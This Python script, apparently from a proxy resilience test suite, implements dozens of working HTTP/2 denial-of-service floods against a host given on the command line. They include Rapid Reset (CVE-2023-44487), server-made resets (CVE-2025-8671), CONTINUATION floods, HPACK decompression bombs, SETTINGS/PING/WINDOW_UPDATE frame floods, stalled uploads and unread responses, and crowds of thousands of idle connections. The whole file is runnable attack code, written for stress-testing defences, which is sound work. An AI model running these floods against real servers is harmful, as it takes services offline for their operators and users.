#!/usr/bin/env python3
"""The floods, each bounded in time, in bytes by that, and in connections.

floods.py NAME HOST PORT TOKEN SECONDS      prints one line of JSON: what was sent, and how its connections ended
"""

import json
import resource
import sys
from dataclasses import dataclass

from flood_wire import Attacker
from frames import (
    DATA, END_HEADERS, END_STREAM, FRAME_MAX, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, PADDED, PREFACE, UNKNOWN, WHOLE, WINDOW_MAX,
    WITH_PRIORITY, continuation, data, dependency, frame, goaway, headers, integer, literal, ping, priority, rst_stream,
    settings, string, window_update,
)  # fmt: skip

RESETS = 10_000  # requests of one connection that are begun and reset
BATCH = 50
WAVE = 90  # streams at once: below what any server allows
PADDING = bytes((255,)) + b"\0" * 255
LARGE = "/large/1000000"
GROWTH = 64 << 20
UNREAD = 48 << 20  # what answers take that nobody takes, on a thousand streams
WIDE = ((INITIAL_WINDOW_SIZE, WINDOW_MAX),)


@dataclass
class Flood:
    name: str
    act: callable  # takes an Attacker
    counted: bool = False  # how many of its requests reach the upstream is judged
    growth: int = GROWTH  # bytes that it may cost the proxy


def floods():
    return [
        *resets(),
        *made_resets(),
        *continuations(),
        *tables(),
        *control(),
        *opened(),
        *unread(),
        *slow(),
        *crowds(),
        *uploads(),
    ]


def batches(pair):
    """`pair(wire, stream)` for the next streams, many at once."""
    return lambda w, n: b"".join(pair(w, w.stream()) for _ in range(BATCH))


def repeated(make, **more):
    return lambda a: a.repeat(make, **more)


def reset(name, pair, **more):
    return Flood(name, repeated(batches(pair), rounds=RESETS // BATCH, **more), counted=True)


def counted(w, more=""):
    """A path that the upstream counts under this connection."""
    return f"/flood/{w.attacker.name.replace(' ', '_')}-{w.number}{more}"


def late(w, stream, *more, **pseudo):
    """A request that the upstream still works on when it is reset."""
    return headers(stream, w.head(*more, path=counted(w, "/late"), **pseudo))


def waves(trigger):
    """As many requests as are allowed, time for them to be passed on, then what gets them reset."""

    def wave(w, _):
        ids = [w.stream() for _ in range(WAVE)]
        w.send(b"".join(late(w, stream) for stream in ids))
        w.attacker.pause(0.03)
        return b"".join(trigger(w, stream) for stream in ids)

    return wave


def wave(name, trigger, **more):
    return Flood(name, repeated(waves(trigger), rounds=RESETS // WAVE, **more), counted=True)


def resets():
    """CVE-2023-44487: requests that are begun and reset."""
    at_once = lambda w, s: late(w, s) + rst_stream(s)
    post = lambda w, s: headers(s, w.head(method="POST"), END_HEADERS) + data(s, b"x" * 100, 0) + rst_stream(s)
    yield reset("rapid reset", lambda w, s: headers(s, w.head()) + rst_stream(s))
    yield reset("rapid reset of slow answers", at_once)
    yield reset("rapid reset by a client that does not read", at_once, reads=False)
    yield reset("rapid reset on ten connections", at_once, side_by_side=10)
    yield reset("rapid reset of uploads", post)
    no_key = lambda w, s: headers(s, w.head().replace(w.attacker.token.encode(), b"x" * len(w.attacker.token))) + rst_stream(s)
    yield reset("rapid reset without a good credential", no_key)
    yield wave("rapid reset in waves of ninety", lambda w, s: rst_stream(s))
    yield wave("rapid reset in waves on ten connections", lambda w, s: rst_stream(s), side_by_side=10)


def made_resets():
    """CVE-2025-8671: requests that the server is made to reset, while the upstream still works on them."""
    yield wave("made resets by WINDOW_UPDATE of 0", lambda w, s: window_update(s, 0))
    yield wave("made resets by a window too large", lambda w, s: window_update(s, WINDOW_MAX) * 2)
    yield wave("made resets by PRIORITY of four bytes", lambda w, s: frame(2, 0, s, b"\0" * 4))
    yield wave("made resets by PRIORITY on itself", lambda w, s: priority(s, s))
    yield wave("made resets by DATA behind the end", lambda w, s: data(s, b"x"))
    yield wave("made resets by HEADERS behind the end", lambda w, s: late(w, s))
    yield reset("made resets by malformed requests", lambda w, s: headers(s, w.head(("te", "gzip"))))


def continuations():
    """CVE-2024-27919 and its kin: field blocks that go on."""
    begun = lambda w: headers(1, w.head(), END_STREAM)
    field = literal("x-flood", "x" * 200)
    full = continuation(1, field * (FRAME_MAX // len(field)), 0)
    yield Flood("CONTINUATION without end", repeated(lambda w, n: full * 8, begin=begun, side_by_side=4))
    yield Flood("CONTINUATION without end and without bytes", repeated(lambda w, n: continuation(1, b"", 0) * 5000, begin=begun))
    yield Flood("CONTINUATION of one byte each", repeated(lambda w, n: continuation(1, b"\0", 0) * 5000, begin=begun))
    whole = lambda w, n: (
        lambda s: headers(s, w.head(), END_STREAM) + full.replace(b"\0\0\0\1", s.to_bytes(4, "big"), 1) * 20 + continuation(s)
    )(w.stream())
    yield Flood("field lists of 320 KB, one after the other", repeated(whole, side_by_side=2))
    pieces = lambda w, n: b"".join(
        headers(s, b"", END_STREAM) + continuation(s, b"", 0) * 20 + continuation(s, w.head())
        for s in [w.stream() for _ in range(20)]
    )
    yield Flood("requests with twenty empty CONTINUATION each", repeated(pieces))


def tables():
    """Field blocks that are small on the wire and large behind it."""
    named = lambda what: lambda octets: Flood(what, repeated(lambda w, n: headers(w.stream(), w.head() + octets), side_by_side=4))
    yield named("HPACK bomb: 16 MB of a table's entry")(literal("x-bomb", "x" * 4000, 0x40) + b"\xbe" * 4000)
    yield named("HPACK bomb: cookie crumbs")(literal("cookie", "c=" + "x" * 3900, 0x40) + b"\xbe" * 4000)
    yield named("HPACK: 3,000 empty fields")(b"\x00\x01a\x00" * 3000)
    yield named("HPACK: strings that decompress")(b"\x00\x06x-huff" + string(b"\x00" * 15000, True))
    updates = integer(0, 5, 0x20) + integer(4096, 5, 0x20)
    resized = lambda w, n: b"".join(
        headers(w.stream(), updates + w.head() + literal("x-kept", "x" * 1000, 0x40)) for _ in range(20)
    )
    yield Flood("HPACK: a table emptied and filled with each request", repeated(resized))
    huge = lambda w, n: settings((HEADER_TABLE_SIZE, (1 << 32) - 1 if n % 2 else 0)) * 20 + headers(w.stream(), w.head())
    yield Flood("tables of 4 GB and of none by SETTINGS", repeated(huge))
    filling = lambda w, n: headers(w.stream(), w.head() + b"".join(literal(f"x-{n}-{m}", "x" * 100, 0x40) for m in range(80)))
    yield Flood("HPACK: eighty new entries with each request", repeated(filling, side_by_side=2))


def control():
    """CVE-2019-9512 and its kin: frames that ask for an answer, or for nothing."""
    many = settings((INITIAL_WINDOW_SIZE, 1 << 16)) * 500
    yield Flood("SETTINGS", repeated(lambda w, n: many, side_by_side=2))
    yield Flood("SETTINGS by a client that does not read", repeated(lambda w, n: many, reads=False, side_by_side=4))
    packed = settings(*[(INITIAL_WINDOW_SIZE, 1 << 15 | n % 2) for n in range(2700)])
    posts = lambda w: b"".join(headers(w.stream(), w.head(method="POST"), END_HEADERS) for _ in range(90))
    yield Flood("SETTINGS of 2,700 windows with 90 streams open", repeated(lambda w, n: packed, begin=posts))
    yield Flood("PING", repeated(lambda w, n: ping() * 1000, side_by_side=2))
    yield Flood("PING by a client that does not read", repeated(lambda w, n: ping() * 1000, reads=False, side_by_side=4))
    yield Flood(
        "empty DATA",
        repeated(lambda w, n: data(1, b"", 0) * 1000, begin=lambda w: headers(1, w.head(method="POST"), END_HEADERS)),
    )
    yield Flood(
        "padding without DATA",
        repeated(
            lambda w, n: frame(DATA, PADDED, 1, PADDING) * 50, begin=lambda w: headers(1, w.head(method="POST"), END_HEADERS)
        ),
    )
    yield Flood(
        "PRIORITY on idle streams",
        repeated(lambda w, n: b"".join(priority((n * 500 + m) % 100_000 * 2 + 1, m) for m in range(500))),
    )
    yield Flood(
        "HEADERS that depend on themselves",
        repeated(batches(lambda w, s: headers(s, dependency(s) + w.head(), WHOLE | WITH_PRIORITY))),
    )
    yield Flood("WINDOW_UPDATE of one byte", repeated(lambda w, n: window_update(0, 1) * 1000))
    yield Flood("WINDOW_UPDATE of 0", repeated(lambda w, n: window_update(0, 0)))
    yield Flood(
        "frames of unknown types", repeated(lambda w, n: frame(UNKNOWN + n % 100, 0xFF, 0, b"x" * FRAME_MAX) * 8, side_by_side=2)
    )
    yield Flood("unknown frames without bytes", repeated(lambda w, n: frame(UNKNOWN, 0, n % 50, b"") * 2000))
    yield Flood("GOAWAY", repeated(lambda w, n: goaway(code=n % 14, debug=b"x" * 1000) * 50))
    yield Flood(
        "RST_STREAM on streams that are closed",
        repeated(lambda w, n: rst_stream(1) * 1000, begin=lambda w: headers(w.stream(), w.head()) + rst_stream(1)),
    )
    yield Flood("a preface and an error, again and again", repeated(lambda w, n: frame(DATA, 0, 0, b"x"), side_by_side=2))


def opened():
    """Streams that are opened and left."""
    posts = lambda w: b"".join(headers(w.stream(), w.head(method="POST"), END_HEADERS) for _ in range(100))
    yield Flood("a hundred uploads opened and left, on twenty connections", lambda a: a.crowd(20, posts))
    more = lambda w, n: b"".join(headers(w.stream(), w.head(method="POST"), END_HEADERS) for _ in range(BATCH))
    yield Flood("more streams than are allowed", repeated(more, side_by_side=2))
    nobody = lambda w: w.head(method="POST").replace(w.attacker.token.encode(), b"x" * len(w.attacker.token))
    refused = lambda w: b"".join(headers(w.stream(), nobody(w), END_HEADERS) for _ in range(100))
    yield Flood("a hundred refused uploads left, on twenty connections", lambda a: a.crowd(20, refused))
    again = lambda w, n: b"".join(headers(w.stream(), nobody(w), END_HEADERS) for _ in range(BATCH))
    yield Flood("refused uploads beside those that are left", repeated(again, side_by_side=4))
    fill = lambda w, n: b"".join(data(s, b"x" * 16000, 0) for s in range(1, 200, 2))
    yield Flood("refused uploads that go on", repeated(fill, begin=refused, side_by_side=4))
    drops = lambda w, n: b"".join(data(s, b"x", 0) for s in range(1, 200, 2)) * 10
    yield Flood("refused uploads that go on by the byte", repeated(drops, begin=refused, side_by_side=4))


def unread():
    """Answers that nobody takes."""
    wants = lambda w: window_update(0, WINDOW_MAX - 65535) + b"".join(headers(w.stream(), w.head(path=LARGE)) for _ in range(100))
    shut = lambda a: a.crowd(10, wants, first=((INITIAL_WINDOW_SIZE, 0),))
    yield Flood("100 large answers with no window", shut, growth=UNREAD)
    unread = lambda a: a.crowd(10, wants, first=WIDE, reads=False, receive=4096)
    yield Flood("100 large answers to a socket that is not read", unread, growth=UNREAD)
    tiny = lambda w, n: b"".join(window_update(s, 1) for s in range(1, 200, 2)) * 5
    yield Flood("100 large answers, a byte at a time", repeated(tiny, begin=wants, first=((INITIAL_WINDOW_SIZE, 0),)))


def slow():
    """Messages that hardly go on."""
    begun = lambda w: headers(1, w.head(), END_STREAM)
    yield Flood("field blocks that never end, on 500 connections", lambda a: a.crowd(500, begun))
    dribble = lambda w, n: (w.attacker.pause(0.05), b"".join(data(s, b"x", 0) for s in range(1, 100, 2)))[1]
    posts = lambda w: b"".join(headers(w.stream(), w.head(method="POST"), END_HEADERS) for _ in range(50))
    yield Flood("DATA of one byte on fifty streams", repeated(dribble, begin=posts, side_by_side=10))


def crowds():
    """Connections in thousands."""
    yield Flood("2,000 connections with a preface alone", lambda a: a.crowd(2000, lambda w: b""))
    yield Flood("2,000 connections with half a preface", lambda a: a.crowd(2000, lambda w: PREFACE[:10], greets=False))
    yield Flood("2,000 connections that say nothing", lambda a: a.crowd(2000, lambda w: b"", greets=False))
    yield Flood("connections that ask and leave at once", lambda a: a.each(lambda: hit_and_run(a), 4))


def hit_and_run(a):
    for _ in range(1000):
        if not a.left():
            return
        try:
            with a.wire() as w:
                w.send(b"".join(headers(w.stream(), w.head()) for _ in range(5)))
        except OSError as error:
            a.note(0, type(error).__name__)


def uploads():
    """Bodies that the upstream does not take."""
    posts = lambda w: b"".join(headers(w.stream(), w.head(method="POST", path="/stalled/1"), END_HEADERS) for _ in range(20))
    fill = lambda w, n: b"".join(data(s, b"x" * 16000, 0) for s in range(1, 40, 2))
    yield Flood("uploads beyond every window", repeated(fill, begin=posts, side_by_side=4))
    within = lambda w: posts(w) + b"".join(data(s, b"x" * 3000, 0) for s in range(1, 40, 2))
    yield Flood("uploads that fill the windows, on 100 connections", lambda a: a.crowd(100, within))
    trailers = lambda w, n: b"".join(
        headers(s, w.head(method="POST"), END_HEADERS) + headers(s, literal("x-t", "1"), END_HEADERS)
        for s in [w.stream() for _ in range(BATCH)]
    )
    yield Flood("trailers that do not end", repeated(trailers))


def main():
    name, host, port, token, seconds = sys.argv[1:]
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    flood = next(flood for flood in floods() if flood.name == name)
    attacker = Attacker(name, host, int(port), token, float(seconds))
    flood.act(attacker)
    print(
        json.dumps({"connections": attacker.opened, "sent": attacker.sent, "ends": dict(attacker.ends.most_common(4))}),
        flush=True,
    )


if __name__ == "__main__":
    main()
